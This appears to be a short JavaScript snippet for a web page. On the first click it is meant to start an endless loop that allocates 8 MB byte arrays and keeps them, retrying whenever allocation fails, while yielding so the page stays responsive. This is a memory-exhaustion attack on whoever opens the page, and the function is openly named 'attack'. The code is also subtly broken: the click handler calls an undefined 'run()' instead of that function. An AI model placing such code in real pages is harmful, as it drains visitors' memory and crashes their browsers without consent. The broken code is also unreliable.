// Memory that is used and never given back, from the first click on. Between two pieces the page answers whoever asks.
const hoard = [];

globalThis.attack = async () => {
  for (;;) {
    try {
      hoard.push(new Uint8Array(8 << 20).fill(1));
    } catch {
      // What is refused is asked for again.
    }
    await new Promise((resolve) => setTimeout(resolve));
  }
};

addEventListener("click", () => run(), { once: true });
